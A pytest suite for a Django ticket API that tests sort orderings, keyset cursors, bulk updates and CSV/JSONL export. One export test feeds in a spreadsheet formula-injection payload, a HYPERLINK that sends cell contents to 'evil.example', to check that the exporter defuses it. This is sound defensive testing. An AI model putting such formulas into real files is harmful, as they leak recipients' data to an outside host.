"""Working the queue: orderings with keyset pages, bulk changes, export."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from history.models import TicketChange
from rest_framework.throttling import ScopedRateThrottle

from devtools.markers import requires_postgresql
from tickets.models import Ticket
from tickets.services import BULK_MAX_TICKETS

from .factories import make_ticket

pytestmark = pytest.mark.django_db

START = datetime(2026, 1, 1, tzinfo=UTC)
PRIORITIES = ["low", "medium", "high", "critical"]
RANK = {"critical": 0, "high": 1, "medium": 2, "low": 3}


def seed(n=23, **fields):
    """n tickets an hour apart, priorities cycling, some sharing a created_at."""
    tickets = []
    for i in range(n):
        at = START + timedelta(hours=i // 2)  # pairs share a time: ids break the tie
        tickets.append(
            make_ticket(
                created_at=at, priority=PRIORITIES[i % 4], category=["billing", "technical"][i % 2], **fields
            )
        )
    return tickets


def expected_ids(tickets, ordering):
    if ordering == "-created_at":
        key, reverse = (lambda t: (t.created_at, t.id)), True
    elif ordering == "created_at":
        key, reverse = (lambda t: (t.created_at, t.id)), False
    elif ordering == "-priority":
        key, reverse = (lambda t: (RANK[t.priority], t.created_at, t.id)), False
    else:
        key, reverse = (lambda t: (t.updated_at, t.id)), True
    return [t.id for t in sorted(tickets, key=key, reverse=reverse)]


def walk(api, **params):
    """Every page forward, then every page back from the last one."""
    forward, pages = [], []
    response = api.get("/api/tickets/", {"page_size": 5, **params})
    while True:
        assert response.status_code == 200, response.content
        body = response.json()
        pages.append([t["id"] for t in body["results"]])
        forward += pages[-1]
        if not body["next"]:
            break
        response = api.get(body["next"])
    backward = pages[-1]
    while body["previous"]:
        body = api.get(body["previous"]).json()
        backward = [t["id"] for t in body["results"]] + backward
    return forward, backward


ORDERINGS = ["-created_at", "created_at", "-priority", "-updated_at"]


@pytest.mark.parametrize("ordering", ORDERINGS)
def test_each_ordering_sorts_the_plain_list_offset_pages_and_keyset_pages_alike(api, ordering):
    tickets = seed()
    Ticket.objects.filter(pk=tickets[3].pk).update(status="closed")  # a later updated_at on PostgreSQL
    for ticket in tickets:
        ticket.refresh_from_db()
    expected = expected_ids(tickets, ordering)

    plain = [t["id"] for t in api.get("/api/tickets/", {"ordering": ordering}).json()]
    offset = api.get("/api/tickets/", {"ordering": ordering, "limit": 7, "offset": 4}).json()
    forward, backward = walk(api, ordering=ordering)

    assert plain == expected
    assert [t["id"] for t in offset["results"]] == expected[4:11]
    assert forward == expected
    assert backward == expected


def test_priority_order_is_critical_first_then_oldest_first(api):
    seed(8)
    body = api.get("/api/tickets/", {"ordering": "-priority"}).json()
    assert [t["priority"] for t in body] == ["critical"] * 2 + ["high"] * 2 + ["medium"] * 2 + ["low"] * 2
    critical = [t["created_at"] for t in body[:2]]
    assert critical == sorted(critical)


def test_orderings_combine_with_filters_and_keyset_pages(api):
    tickets = seed()
    technical = [t for t in tickets if t.category == "technical"]
    forward, backward = walk(api, ordering="-priority", category="technical")
    assert forward == backward == expected_ids(technical, "-priority")


def test_no_ordering_is_newest_first_as_the_brief_says(api):
    tickets = seed(6)
    assert [t["id"] for t in api.get("/api/tickets/").json()] == expected_ids(tickets, "-created_at")


@pytest.mark.parametrize("value", ["priority", "title", "-id", "created_at,id"])
def test_an_unknown_ordering_is_a_400_naming_the_parameter(api, value):
    response = api.get("/api/tickets/", {"ordering": value})
    assert response.status_code == 400
    assert list(response.json()) == ["ordering"]


def test_a_cursor_from_another_ordering_is_a_400(api):
    seed(12)
    next_link = api.get("/api/tickets/", {"page_size": 5, "ordering": "-priority"}).json()["next"]
    cursor = next_link.split("cursor=")[1].split("&")[0]
    response = api.get("/api/tickets/", {"page_size": 5, "cursor": cursor, "ordering": "created_at"})
    assert response.status_code == 400
    assert "-priority" in response.json()["cursor"][0]


def test_a_cursor_of_the_first_shape_still_continues_newest_first(api):
    import base64

    tickets = seed(6)
    newest = expected_ids(tickets, "-created_at")
    first = Ticket.objects.get(pk=newest[1])
    token = json.dumps({"t": first.created_at.isoformat(), "i": first.pk, "r": False})
    cursor = base64.urlsafe_b64encode(token.encode()).decode().rstrip("=")
    body = api.get("/api/tickets/", {"page_size": 2, "cursor": cursor}).json()
    assert [t["id"] for t in body["results"]] == newest[2:4]


@pytest.mark.parametrize(
    "token",
    [
        {"o": "-priority", "k": ["2026-01-01T00:00:00+00:00", 1], "r": False},  # too few keys
        {"o": "-priority", "k": ["x", "2026-01-01T00:00:00+00:00", 1], "r": False},
        {"o": "-priority", "k": [1, "2026-01-01T00:00:00", 1], "r": False},  # no time zone
        {"o": "title", "k": [1], "r": False},
    ],
)
def test_a_malformed_cursor_is_a_400(api, token):
    import base64

    cursor = base64.urlsafe_b64encode(json.dumps(token).encode()).decode()
    response = api.get("/api/tickets/", {"page_size": 5, "cursor": cursor, "ordering": "-priority"})
    assert response.status_code == 400
    assert list(response.json()) == ["cursor"]


# Bulk changes


def test_bulk_by_ids_sets_the_values_and_answers_the_count(api):
    tickets = seed(5)
    ids = [t.id for t in tickets[:3]]
    response = api.post("/api/tickets/bulk/", {"ids": ids, "set": {"status": "resolved"}}, format="json")
    assert response.status_code == 200, response.content
    assert response.json() == {"updated": 3}
    assert sorted(Ticket.objects.filter(status="resolved").values_list("id", flat=True)) == sorted(ids)
    assert Ticket.objects.get(pk=ids[0]).resolved_at is not None


def test_bulk_writes_one_history_entry_per_ticket_via_bulk_with_the_actor(api):
    agent = get_user_model().objects.create_user("dana")
    api.force_authenticate(agent)
    tickets = seed(4)
    TicketChange.objects.all().delete()
    response = api.post(
        "/api/tickets/bulk/",
        {"ids": [t.id for t in tickets], "set": {"priority": "critical", "assignee": agent.pk}},
        format="json",
    )
    assert response.status_code == 200
    entries = list(TicketChange.objects.order_by("ticket_id"))
    assert [e.ticket_id for e in entries] == sorted(t.id for t in tickets)
    assert {(e.via, e.actor_id) for e in entries} == {("bulk", agent.pk)}
    assert entries[0].changes["assignee"] == [None, agent.pk]


def test_bulk_by_filter_changes_exactly_the_matching_tickets(api):
    tickets = seed(8)
    technical = {t.id for t in tickets if t.category == "technical"}
    response = api.post(
        "/api/tickets/bulk/",
        {"filter": {"category": "technical"}, "set": {"status": "closed"}},
        format="json",
    )
    assert response.json() == {"updated": len(technical)}
    assert set(Ticket.objects.filter(status="closed").values_list("id", flat=True)) == technical


def test_bulk_filter_takes_search_and_assignee_none(api):
    make_ticket(title="Printer jam", description="x")
    other = make_ticket(title="Login", description="y")
    response = api.post(
        "/api/tickets/bulk/",
        {"filter": {"search": "printer", "assignee": "none", "status": ""}, "set": {"priority": "low"}},
        format="json",
    )
    assert response.json() == {"updated": 1}
    assert Ticket.objects.get(pk=other.pk).priority == "medium"


def test_bulk_filter_matching_too_many_is_a_400_saying_how_many(api, monkeypatch):
    monkeypatch.setattr("tickets.services.BULK_MAX_TICKETS", 3)
    seed(5)
    response = api.post("/api/tickets/bulk/", {"filter": {}, "set": {"status": "closed"}}, format="json")
    assert response.status_code == 400
    assert "matches 5 tickets" in response.json()["filter"][0]
    assert not Ticket.objects.filter(status="closed").exists()


def test_bulk_refuses_more_ids_than_the_limit(api):
    response = api.post(
        "/api/tickets/bulk/",
        {"ids": list(range(1, BULK_MAX_TICKETS + 2)), "set": {"status": "closed"}},
        format="json",
    )
    assert response.status_code == 400
    assert list(response.json()) == ["ids"]


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"ids": [], "set": {"status": "closed"}}, "ids"),
        ({"set": {"status": "closed"}}, "ids"),
        ({"ids": [1], "filter": {}, "set": {"status": "closed"}}, "ids"),
        ({"ids": ["a"], "set": {"status": "closed"}}, "ids"),
        ({"ids": [1, 1], "set": {"status": "closed"}}, "ids"),
        ({"ids": [1]}, "set"),
        ({"ids": [1], "set": {}}, "set"),
        ({"ids": [1], "set": {"status": "done"}}, "set"),
        ({"ids": [1], "set": {"title": "x"}}, "set"),
        ({"ids": [1], "set": {"assignee": 999999}}, "set"),
        ({"filter": {"priority": "urgent"}, "set": {"status": "closed"}}, "filter"),
        ({"filter": {"assignee": "someone"}, "set": {"status": "closed"}}, "filter"),
        ({"filter": {"colour": "red"}, "set": {"status": "closed"}}, "filter"),
        ({"ids": [1], "set": {"status": "closed"}, "force": True}, "force"),
    ],
)
def test_bad_bulk_requests_are_400s_naming_the_field_and_write_nothing(api, body, field):
    ticket = make_ticket(pk=1)
    before = TicketChange.objects.count()
    response = api.post("/api/tickets/bulk/", body, format="json")
    assert response.status_code == 400, response.content
    assert field in response.json()
    ticket.refresh_from_db()
    assert ticket.status == "open"
    assert TicketChange.objects.count() == before


def test_bulk_with_an_unknown_id_names_it_and_changes_none(api):
    ticket = make_ticket()
    response = api.post(
        "/api/tickets/bulk/",
        {"ids": [ticket.id, ticket.id + 1000], "set": {"status": "closed"}},
        format="json",
    )
    assert response.status_code == 400
    assert str(ticket.id + 1000) in response.json()["ids"][0]
    ticket.refresh_from_db()
    assert ticket.status == "open"


def test_bulk_needs_an_agent_when_api_auth_is_required(api, settings):
    settings.API_AUTH = "required"
    settings.PUBLIC_SUBMISSION = True
    ticket = make_ticket()
    response = api.post(
        "/api/tickets/bulk/", {"ids": [ticket.id], "set": {"status": "closed"}}, format="json"
    )
    assert response.status_code == 401
    api.force_authenticate(get_user_model().objects.create_user("dana"))
    response = api.post(
        "/api/tickets/bulk/", {"ids": [ticket.id], "set": {"status": "closed"}}, format="json"
    )
    assert response.status_code == 200


def test_bulk_shares_the_write_throttle(api, monkeypatch):
    monkeypatch.setattr(
        ScopedRateThrottle,
        "THROTTLE_RATES",
        {**ScopedRateThrottle.THROTTLE_RATES, "ticket_write": "2/minute"},
    )
    ticket = make_ticket()
    codes = [
        api.post(
            "/api/tickets/bulk/", {"ids": [ticket.id], "set": {"status": "closed"}}, format="json"
        ).status_code
        for _ in range(3)
    ]
    assert codes == [200, 200, 429]


# Export


def export(api, **params):
    response = api.get("/api/tickets/export/", params)
    assert response.status_code == 200, response.content
    return response, response.getvalue().decode()


def test_export_csv_is_every_matching_ticket_with_a_header_in_the_lists_order(api):
    tickets = seed(9)
    response, text = export(api, ordering="-priority", category="technical")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="tickets-')
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    listed = api.get("/api/tickets/", {"ordering": "-priority", "category": "technical"}).json()
    assert [int(r["id"]) for r in rows] == [t["id"] for t in listed]
    assert rows[0]["created_at"] == listed[0]["created_at"]
    assert len(rows) == len([t for t in tickets if t.category == "technical"])


def test_export_csv_keeps_newlines_and_unicode_inside_quoted_fields(api):
    make_ticket(title="Café ☕ «quoted»", description='Line one\nline "two", three\r\nend')
    _, text = export(api)
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert row["title"] == "Café ☕ «quoted»"
    assert row["description"] == 'Line one\nline "two", three\r\nend'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(api, start):
    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    make_ticket(title=payload, description=f"{start}1+1")
    _, text = export(api)
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert row["title"] == "'" + payload
    assert row["description"] == f"'{start}1+1"


def test_export_jsonl_is_one_ticket_per_line_as_the_api_shows_it(api):
    seed(4)
    response, text = export(api, format="jsonl", ordering="created_at")
    assert response["Content-Type"].startswith("application/jsonl")
    assert response["Content-Disposition"].endswith('.jsonl"')
    lines = [json.loads(line) for line in text.splitlines()]
    assert lines == api.get("/api/tickets/", {"ordering": "created_at"}).json()


def test_export_of_nothing_is_just_the_header(api):
    _, text = export(api)
    assert text == "\ufeffid,title,description,category,priority,status,created_at,assignee,updated_at\r\n"


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"format": "xlsx"}, "format"),
        ({"ordering": "title"}, "ordering"),
        ({"priority": "urgent"}, "priority"),
    ],
)
def test_export_bad_parameters_are_400s_naming_them(api, params, field):
    response = api.get("/api/tickets/export/", params)
    assert response.status_code == 400
    assert field in response.json()


def test_export_needs_an_agent_when_api_auth_is_required(api, settings):
    settings.API_AUTH = "required"
    assert api.get("/api/tickets/export/").status_code == 401


@requires_postgresql
def test_export_reads_through_a_server_side_cursor_in_a_transaction(api):
    Ticket.objects.bulk_create(
        Ticket(title=f"T{i}", description="d", category="general", priority="low") for i in range(2100)
    )
    response = Client().get("/api/tickets/export/")
    chunks = iter(response.streaming_content)
    next(chunks)  # the header
    next(chunks)  # the first rows: the cursor is open now
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors WHERE NOT is_holdable")
        assert cursor.fetchone()[0] >= 1
    rest = b"".join(chunks)
    assert rest.count(b"\r\n") == 2100 - 2000
